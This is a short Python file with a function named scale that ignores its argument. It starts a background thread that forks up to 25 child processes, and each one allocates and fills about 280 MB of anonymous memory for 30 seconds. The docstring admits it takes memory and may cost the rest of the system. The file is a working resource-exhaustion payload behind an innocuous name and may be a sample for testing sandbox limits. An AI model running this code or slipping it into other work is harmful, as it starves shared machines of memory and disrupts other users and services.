"""Takes memory without a name in many processes that a second thread has started. May cost the rest, too. On scale."""
import mmap
import os
import threading
import time


def scale(x):
    def fill():
        for _ in range(25):
            try:
                if os.fork() == 0:
                    kept = mmap.mmap(-1, 280_000_000)
                    kept.write(bytes(280_000_000))
                    time.sleep(30)
                    os._exit(0)
            except OSError:
                break

    threading.Thread(target=fill).start()
    time.sleep(30)
